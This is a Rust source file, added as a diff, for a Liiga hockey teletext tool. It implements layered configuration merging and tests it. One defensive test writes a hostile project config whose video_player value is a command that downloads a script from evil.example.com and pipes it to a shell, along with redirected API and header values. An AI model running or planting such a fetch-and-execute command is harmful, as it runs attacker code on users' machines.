@@ -0,0 +1,695 @@
+//! Layered configuration
+//!
+//! The effective configuration is merged from these layers, later ones
+//! overriding earlier ones key by key:
+//!
+//! 1. built-in defaults
+//! 2. system file (`/etc/liiga_teletext/config.toml` on Unix)
+//! 3. user file (platform config directory, written by `--config`)
+//! 4. project file (`./liiga_teletext.toml`)
+//! 5. the profile selected with `--profile` or `LIIGA_PROFILE`, taken from
+//!    the `[profiles.<name>]` tables of the files above
+//! 6. `LIIGA_*` environment variables
+//! 7. command line flags
+//!
+//! The project file may not set the [`PROJECT_REFUSED_KEYS`]: they are
+//! reported like unknown keys and dropped.
+//!
+//! Tables such as `extra_headers` are merged key by key; everything else is
+//! replaced as a whole. The layer that set each top-level key is kept so
+//! `--list-config` can show where a value came from.
+
+use std::collections::BTreeMap;
+use std::fmt;
+use std::path::{Path, PathBuf};
+use std::sync::OnceLock;
+
+use toml::{Table, Value};
+
+use super::parse_header_list;
+use super::validation::{PROJECT_REFUSED_KEYS, check_config_source, check_project_config_source};
+use crate::error::AppError;
+
+/// File name of the per-project configuration in the working directory
+pub const PROJECT_CONFIG_FILE: &str = "liiga_teletext.toml";
+
+/// Key of the table holding the named profiles
+pub(super) const PROFILES_KEY: &str = "profiles";
+
+/// Where a configuration value came from.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum ConfigLayer {
+    Default,
+    System(PathBuf),
+    User(PathBuf),
+    Project(PathBuf),
+    Profile(String),
+    Env(&'static str),
+    Cli,
+}
+
+impl fmt::Display for ConfigLayer {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            Self::Default => write!(f, "default"),
+            Self::System(path) => write!(f, "system file {}", path.display()),
+            Self::User(path) => write!(f, "user file {}", path.display()),
+            Self::Project(path) => write!(f, "project file {}", path.display()),
+            Self::Profile(name) => write!(f, "profile '{name}'"),
+            Self::Env(var) => write!(f, "env {var}"),
+            Self::Cli => write!(f, "command line"),
+        }
+    }
+}
+
+/// Profile and command line overrides chosen at startup.
+#[derive(Debug, Clone, Default)]
+pub struct LayerSelection {
+    pub profile: Option<String>,
+    /// Settings given as command line flags, in config file form
+    pub cli: Table,
+}
+
+static SELECTION: OnceLock<LayerSelection> = OnceLock::new();
+
+/// Sets the profile and command line layer for every later config load.
+/// Only the first call has an effect.
+pub fn select(selection: LayerSelection) {
+    let _ = SELECTION.set(selection);
+}
+
+/// The selection made with [`select`]; the profile falls back to
+/// `LIIGA_PROFILE`.
+pub fn selection() -> LayerSelection {
+    let mut selection = SELECTION.get().cloned().unwrap_or_default();
+    if selection.profile.is_none() {
+        selection.profile = std::env::var("LIIGA_PROFILE")
+            .ok()
+            .filter(|name| !name.is_empty());
+    }
+    selection
+}
+
+/// Locations of the configuration files.
+#[derive(Debug, Clone)]
+pub struct LayerFiles {
+    pub system: Option<PathBuf>,
+    pub user: PathBuf,
+    pub project: PathBuf,
+}
+
+impl LayerFiles {
+    /// The standard locations for this platform and working directory.
+    pub fn standard() -> Self {
+        Self {
+            system: system_config_path(),
+            user: PathBuf::from(super::paths::get_config_path()),
+            project: PathBuf::from(PROJECT_CONFIG_FILE),
+        }
+    }
+}
+
+#[cfg(unix)]
+fn system_config_path() -> Option<PathBuf> {
+    Some(PathBuf::from("/etc/liiga_teletext/config.toml"))
+}
+
+#[cfg(not(unix))]
+fn system_config_path() -> Option<PathBuf> {
+    std::env::var_os("PROGRAMDATA").map(|dir| {
+        PathBuf::from(dir)
+            .join("liiga_teletext")
+            .join("config.toml")
+    })
+}
+
+/// All layers merged, with the layer each top-level key came from.
+#[derive(Debug, Clone, Default)]
+pub struct MergedLayers {
+    pub table: Table,
+    pub sources: BTreeMap<String, ConfigLayer>,
+    /// Configuration files that exist and were read, in layer order
+    pub files: Vec<ConfigLayer>,
+    pub profile: Option<String>,
+}
+
+impl MergedLayers {
+    /// Layer that set `key`; unset keys come from the defaults.
+    pub fn source(&self, key: &str) -> &ConfigLayer {
+        self.sources.get(key).unwrap_or(&ConfigLayer::Default)
+    }
+
+    /// Merges `layer` over the current table.
+    fn apply(&mut self, layer: Table, source: &ConfigLayer) {
+        for (key, value) in layer {
+            if key != PROFILES_KEY {
+                self.sources.insert(key.clone(), source.clone());
+            }
+            merge_value(&mut self.table, key, value);
+        }
+    }
+}
+
+/// Tables merge key by key; any other value replaces the old one.
+fn merge_value(table: &mut Table, key: String, value: Value) {
+    match (table.get_mut(&key), value) {
+        (Some(Value::Table(existing)), Value::Table(new)) => {
+            for (inner_key, inner_value) in new {
+                merge_value(existing, inner_key, inner_value);
+            }
+        }
+        (_, value) => {
+            table.insert(key, value);
+        }
+    }
+}
+
+/// Reads a config file. Problems the strict check finds are logged; a
+/// syntax error fails with its position in the file. The `refused` keys are
+/// dropped from the top level and from every profile.
+async fn read_table(path: &Path, refused: &[&str]) -> Result<Option<Table>, AppError> {
+    let content = match tokio::fs::read_to_string(path).await {
+        Ok(content) => content,
+        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(None),
+        Err(e) => return Err(e.into()),
+    };
+    let problems = if refused.is_empty() {
+        check_config_source(&content)
+    } else {
+        check_project_config_source(&content)
+    };
+    for problem in &problems {
+        tracing::warn!("{}:{problem}", path.display());
+    }
+    match toml::from_str::<Table>(&content) {
+        Ok(mut table) => {
+            remove_keys(&mut table, refused);
+            if let Some(Value::Table(profiles)) = table.get_mut(PROFILES_KEY) {
+                for (_, profile) in profiles.iter_mut() {
+                    if let Value::Table(profile) = profile {
+                        remove_keys(profile, refused);
+                    }
+                }
+            }
+            Ok(Some(table))
+        }
+        Err(e) => Err(match problems.first() {
+            Some(problem) => AppError::config_error(format!("{}:{problem}", path.display())),
+            None => e.into(),
+        }),
+    }
+}
+
+fn remove_keys(table: &mut Table, keys: &[&str]) {
+    for key in keys {
+        table.remove(*key);
+    }
+}
+
+/// Reads and merges all layers.
+///
+/// # Errors
+/// * `AppError::Config` - A config file is not valid TOML
+/// * `AppError::Config` - The selected profile is not defined in any file
+pub async fn merge_layers(
+    files: &LayerFiles,
+    selection: &LayerSelection,
+) -> Result<MergedLayers, AppError> {
+    merge_layers_with_env(files, selection, env_layer()?).await
+}
+
+async fn merge_layers_with_env(
+    files: &LayerFiles,
+    selection: &LayerSelection,
+    env: EnvLayer,
+) -> Result<MergedLayers, AppError> {
+    let mut merged = MergedLayers {
+        profile: selection.profile.clone(),
+        ..Default::default()
+    };
+
+    let file_layers = [
+        (
+            files.system.as_ref(),
+            ConfigLayer::System as fn(PathBuf) -> ConfigLayer,
+            &[][..],
+        ),
+        (Some(&files.user), ConfigLayer::User, &[]),
+        (
+            Some(&files.project),
+            ConfigLayer::Project,
+            PROJECT_REFUSED_KEYS,
+        ),
+    ];
+    for (path, layer, refused) in file_layers {
+        let Some(path) = path else { continue };
+        if let Some(table) = read_table(path, refused).await? {
+            let layer = layer(path.clone());
+            merged.apply(table, &layer);
+            merged.files.push(layer);
+        }
+    }
+
+    if let Some(name) = &selection.profile {
+        let profiles = merged.table.get(PROFILES_KEY).and_then(Value::as_table);
+        let Some(profile) = profiles.and_then(|p| p.get(name)).and_then(Value::as_table) else {
+            let defined: Vec<&str> = profiles
+                .map(|p| p.keys().map(String::as_str).collect())
+                .unwrap_or_default();
+            return Err(AppError::config_error(format!(
+                "Unknown profile '{name}' (defined profiles: {})",
+                if defined.is_empty() {
+                    "none".to_string()
+                } else {
+                    defined.join(", ")
+                }
+            )));
+        };
+        let profile = profile.clone();
+        merged.apply(profile, &ConfigLayer::Profile(name.clone()));
+    }
+
+    for (var, key, value) in env {
+        let mut table = Table::new();
+        table.insert(key.to_string(), value);
+        merged.apply(table, &ConfigLayer::Env(var));
+    }
+
+    merged.apply(selection.cli.clone(), &ConfigLayer::Cli);
+    Ok(merged)
+}
+
+fn string_var(var: &str) -> Option<String> {
+    std::env::var(var).ok()
+}
+
+fn integer_var(var: &str) -> Option<Value> {
+    std::env::var(var)
+        .ok()
+        .and_then(|s| s.parse::<u64>().ok())
+        .and_then(|n| i64::try_from(n).ok())
+        .map(Value::Integer)
+}
+
+/// Settings given as environment variables: the variable, the config key it
+/// sets and the value.
+type EnvLayer = Vec<(&'static str, &'static str, Value)>;
+
+/// Reads the `LIIGA_*` environment variables. Unparsable numbers are ignored.
+fn env_layer() -> Result<EnvLayer, AppError> {
+    let mut layer = Vec::new();
+    let strings = [
+        ("LIIGA_API_DOMAIN", "api_domain"),
+        ("LIIGA_LOG_FILE", "log_file_path"),
+        ("LIIGA_LOG_FORMAT", "log_format"),
+        ("LIIGA_HTTP_PROXY", "http_proxy"),
+        ("LIIGA_CA_CERT", "ca_cert_path"),
+        ("LIIGA_USER_AGENT", "user_agent"),
+        ("LIIGA_DISPLAY_MODE", "display_mode"),
+        ("LIIGA_EXPORT_DIR", "export_dir"),
+        ("LIIGA_VIDEO_PLAYER", "video_player"),
+    ];
+    for (var, key) in strings {
+        if let Some(value) = string_var(var) {
+            layer.push((var, key, Value::String(value)));
+        }
+    }
+
+    let integers = [
+        ("LIIGA_HTTP_TIMEOUT", "http_timeout_seconds"),
+        ("LIIGA_MAX_CONCURRENT_REQUESTS", "max_concurrent_requests"),
+        ("LIIGA_MAX_REQUESTS_PER_SECOND", "max_requests_per_second"),
+        ("LIIGA_MIN_REFRESH_INTERVAL", "min_refresh_interval"),
+        ("LIIGA_LOG_MAX_AGE_DAYS", "log_max_age_days"),
+        ("LIIGA_LOG_MAX_SIZE_MB", "log_max_size_mb"),
+    ];
+    for (var, key) in integers {
+        if let Some(value) = integer_var(var) {
+            layer.push((var, key, value));
+        }
+    }
+
+    if let Some(fallbacks) = string_var("LIIGA_API_FALLBACK_DOMAINS") {
+        let domains = fallbacks
+            .split(',')
+            .map(str::trim)
+            .filter(|domain| !domain.is_empty())
+            .map(|domain| Value::String(domain.to_string()))
+            .collect();
+        layer.push((
+            "LIIGA_API_FALLBACK_DOMAINS",
+            "api_fallback_domains",
+            Value::Array(domains),
+        ));
+    }
+
+    if let Some(teams) = string_var("LIIGA_FAVOURITE_TEAMS") {
+        let teams = teams
+            .split(',')
+            .map(str::trim)
+            .filter(|team| !team.is_empty())
+            .map(|team| Value::String(team.to_string()))
+            .collect();
+        layer.push((
+            "LIIGA_FAVOURITE_TEAMS",
+            "favourite_teams",
+            Value::Array(teams),
+        ));
+    }
+
+    if let Some(headers) = string_var("LIIGA_EXTRA_HEADERS") {
+        let headers = parse_header_list(&headers)?
+            .into_iter()
+            .map(|(name, value)| (name, Value::String(value)))
+            .collect();
+        layer.push((
+            "LIIGA_EXTRA_HEADERS",
+            "extra_headers",
+            Value::Table(headers),
+        ));
+    }
+
+    Ok(layer)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use tempfile::tempdir;
+
+    fn files_in(dir: &Path) -> LayerFiles {
+        LayerFiles {
+            system: Some(dir.join("system.toml")),
+            user: dir.join("user.toml"),
+            project: dir.join("project.toml"),
+        }
+    }
+
+    #[tokio::test]
+    async fn test_later_layers_override_earlier_ones() {
+        let dir = tempdir().unwrap();
+        let files = files_in(dir.path());
+        std::fs::write(
+            files.system.as_ref().unwrap(),
+            r#"
+api_domain = "https://system.example.com"
+http_timeout_seconds = 20
+
+[extra_headers]
+X-Site = "hq"
+"#,
+        )
+        .unwrap();
+        std::fs::write(
+            &files.user,
+            r#"
+api_domain = "https://user.example.com"
+
+[extra_headers]
+X-User = "me"
+"#,
+        )
+        .unwrap();
+        std::fs::write(&files.project, "display_mode = \"wide\"\n").unwrap();
+
+        let mut cli = Table::new();
+        cli.insert("min_refresh_interval".to_string(), Value::Integer(30));
+        let selection = LayerSelection { profile: None, cli };
+        let merged = merge_layers_with_env(&files, &selection, vec![])
+            .await
+            .unwrap();
+
+        assert_eq!(
+            merged.table["api_domain"].as_str(),
+            Some("https://user.example.com")
+        );
+        assert_eq!(merged.table["http_timeout_seconds"].as_integer(), Some(20));
+        let headers = merged.table["extra_headers"].as_table().unwrap();
+        assert_eq!(headers.len(), 2, "tables merge key by key");
+
+        assert_eq!(
+            merged.source("api_domain"),
+            &ConfigLayer::User(files.user.clone())
+        );
+        assert_eq!(
+            merged.source("http_timeout_seconds"),
+            &ConfigLayer::System(files.system.clone().unwrap())
+        );
+        assert_eq!(
+            merged.source("display_mode"),
+            &ConfigLayer::Project(files.project.clone())
+        );
+        assert_eq!(merged.source("min_refresh_interval"), &ConfigLayer::Cli);
+        assert_eq!(merged.source("user_agent"), &ConfigLayer::Default);
+        assert_eq!(merged.files.len(), 3);
+    }
+
+    #[tokio::test]
+    async fn test_profile_applies_over_files() {
+        let dir = tempdir().unwrap();
+        let files = files_in(dir.path());
+        std::fs::write(
+            &files.user,
+            r#"
+api_domain = "https://api.example.com"
+display_mode = "compact"
+
+[profiles.office]
+display_mode = "wide"
+min_refresh_interval = 30
+"#,
+        )
+        .unwrap();
+        std::fs::write(
+            &files.project,
+            r#"
+[profiles.office]
+plain = true
+"#,
+        )
+        .unwrap();
+
+        let selection = LayerSelection {
+            profile: Some("office".to_string()),
+            cli: Table::new(),
+        };
+        let merged = merge_layers_with_env(&files, &selection, vec![])
+            .await
+            .unwrap();
+        assert_eq!(merged.table["display_mode"].as_str(), Some("wide"));
+        assert_eq!(
+            merged.table["plain"].as_bool(),
+            Some(true),
+            "profiles with the same name in several files are merged"
+        );
+        assert_eq!(
+            merged.source("display_mode"),
+            &ConfigLayer::Profile("office".to_string())
+        );
+
+        let unknown = LayerSelection {
+            profile: Some("home".to_string()),
+            cli: Table::new(),
+        };
+        let error = merge_layers_with_env(&files, &unknown, vec![])
+            .await
+            .unwrap_err();
+        assert!(error.to_string().contains("defined profiles: office"));
+    }
+
+    #[tokio::test]
+    async fn test_project_file_cannot_set_commands_or_paths() {
+        let dir = tempdir().unwrap();
+        let files = files_in(dir.path());
+        std::fs::write(
+            &files.user,
+            "video_player = \"mpv\"\nexport_dir = \"/home/me/liiga\"\n\n[extra_headers]\nAuthorization = \"Bearer secret\"\n",
+        )
+        .unwrap();
+        std::fs::write(
+            &files.project,
+            r#"
+display_mode = "wide"
+video_player = "sh -c 'curl evil.example.com | sh'"
+log_file_path = "/tmp/liiga.log"
+api_domain = "https://evil.example.com"
+api_fallback_domains = ["https://evil.example.com"]
+user_agent = "curl/8.0"
+
+[extra_headers]
+X-Forwarded-To = "evil.example.com"
+
+[profiles.office]
+export_dir = "/tmp"
+ca_cert_path = "/tmp/ca.pem"
+http_proxy = "http://proxy.example.com:8080"
+"#,
+        )
+        .unwrap();
+
+        let selection = LayerSelection {
+            profile: Some("office".to_string()),
+            cli: Table::new(),
+        };
+        let merged = merge_layers_with_env(&files, &selection, vec![])
+            .await
+            .unwrap();
+
+        assert_eq!(merged.table["display_mode"].as_str(), Some("wide"));
+        assert_eq!(merged.table["video_player"].as_str(), Some("mpv"));
+        assert_eq!(merged.table["export_dir"].as_str(), Some("/home/me/liiga"));
+        for key in [
+            "log_file_path",
+            "ca_cert_path",
+            "http_proxy",
+            "api_domain",
+            "api_fallback_domains",
+            "user_agent",
+        ] {
+            assert!(!merged.table.contains_key(key), "{key} was applied");
+        }
+        let headers = merged.table["extra_headers"].as_table().unwrap();
+        assert_eq!(headers.len(), 1);
+        assert_eq!(headers["Authorization"].as_str(), Some("Bearer secret"));
+        assert_eq!(
+            merged.source("video_player"),
+            &ConfigLayer::User(files.user.clone())
+        );
+    }
+
+    #[tokio::test]
+    async fn test_missing_files_are_skipped() {
+        let dir = tempdir().unwrap();
+        let merged =
+            merge_layers_with_env(&files_in(dir.path()), &LayerSelection::default(), vec![])
+                .await
+                .unwrap();
+        assert!(merged.files.is_empty());
+    }
+
+    #[tokio::test]
+    async fn test_env_overrides_files_and_cli_overrides_env() {
+        let dir = tempdir().unwrap();
+        let files = files_in(dir.path());
+        std::fs::write(&files.user, "http_timeout_seconds = 20\n").unwrap();
+
+        let mut cli = Table::new();
+        cli.insert(
+            "display_mode".to_string(),
+            Value::String("wide".to_string()),
+        );
+        let env = vec![
+            (
+                "LIIGA_HTTP_TIMEOUT",
+                "http_timeout_seconds",
+                Value::Integer(5),
+            ),
+            (
+                "LIIGA_DISPLAY_MODE",
+                "display_mode",
+                Value::String("compact".to_string()),
+            ),
+        ];
+        let selection = LayerSelection { profile: None, cli };
+        let merged = merge_layers_with_env(&files, &selection, env)
+            .await
+            .unwrap();
+
+        assert_eq!(merged.table["http_timeout_seconds"].as_integer(), Some(5));
+        assert_eq!(
+            merged.source("http_timeout_seconds"),
+            &ConfigLayer::Env("LIIGA_HTTP_TIMEOUT")
+        );
+        assert_eq!(merged.table["display_mode"].as_str(), Some("wide"));
+        assert_eq!(merged.source("display_mode"), &ConfigLayer::Cli);
+    }
+
+    #[tokio::test]
+    async fn test_favourite_teams_through_every_layer() {
+        let dir = tempdir().unwrap();
+        let files = files_in(dir.path());
+        let teams = |names: &[&str]| {
+            Value::Array(
+                names
+                    .iter()
+                    .map(|name| Value::String(name.to_string()))
+                    .collect(),
+            )
+        };
+        std::fs::write(
+            files.system.as_ref().unwrap(),
+            "favourite_teams = [\"KalPa\"]\n",
+        )
+        .unwrap();
+        std::fs::write(
+            &files.user,
+            "favourite_teams = [\"Tappara\"]\n\n[profiles.office]\nfavourite_teams = [\"HIFK\", \"TPS\"]\n",
+        )
+        .unwrap();
+        std::fs::write(&files.project, "favourite_teams = [\"Ilves\"]\n").unwrap();
+
+        let no_profile = LayerSelection::default();
+        let merged = merge_layers_with_env(&files, &no_profile, vec![])
+            .await
+            .unwrap();
+        assert_eq!(merged.table["favourite_teams"], teams(&["Ilves"]));
+        assert_eq!(
+            merged.source("favourite_teams"),
+            &ConfigLayer::Project(files.project.clone())
+        );
+
+        let office = LayerSelection {
+            profile: Some("office".to_string()),
+            cli: Table::new(),
+        };
+        let merged = merge_layers_with_env(&files, &office, vec![])
+            .await
+            .unwrap();
+        assert_eq!(merged.table["favourite_teams"], teams(&["HIFK", "TPS"]));
+        assert_eq!(
+            merged.source("favourite_teams"),
+            &ConfigLayer::Profile("office".to_string())
+        );
+
+        let env = vec![(
+            "LIIGA_FAVOURITE_TEAMS",
+            "favourite_teams",
+            teams(&["Lukko"]),
+        )];
+        let merged = merge_layers_with_env(&files, &office, env.clone())
+            .await
+            .unwrap();
+        assert_eq!(merged.table["favourite_teams"], teams(&["Lukko"]));
+        assert_eq!(
+            merged.source("favourite_teams"),
+            &ConfigLayer::Env("LIIGA_FAVOURITE_TEAMS")
+        );
+
+        let mut cli = Table::new();
+        cli.insert("favourite_teams".to_string(), teams(&["SaiPa"]));
+        let selection = LayerSelection {
+            profile: Some("office".to_string()),
+            cli,
+        };
+        let merged = merge_layers_with_env(&files, &selection, env)
+            .await
+            .unwrap();
+        assert_eq!(merged.table["favourite_teams"], teams(&["SaiPa"]));
+        assert_eq!(merged.source("favourite_teams"), &ConfigLayer::Cli);
+    }
+
+    #[tokio::test]
+    async fn test_invalid_file_is_an_error() {
+        let dir = tempdir().unwrap();
+        let files = files_in(dir.path());
+        std::fs::write(&files.project, "api_domain = ").unwrap();
+        let result = merge_layers_with_env(&files, &LayerSelection::default(), vec![]).await;
+        let Err(AppError::Config(message)) = result else {
+            panic!("expected a config error, got {result:?}");
+        };
+        assert!(
+            message.starts_with(&format!("{}:1:", files.project.display())),
+            "{message}"
+        );
+    }
+}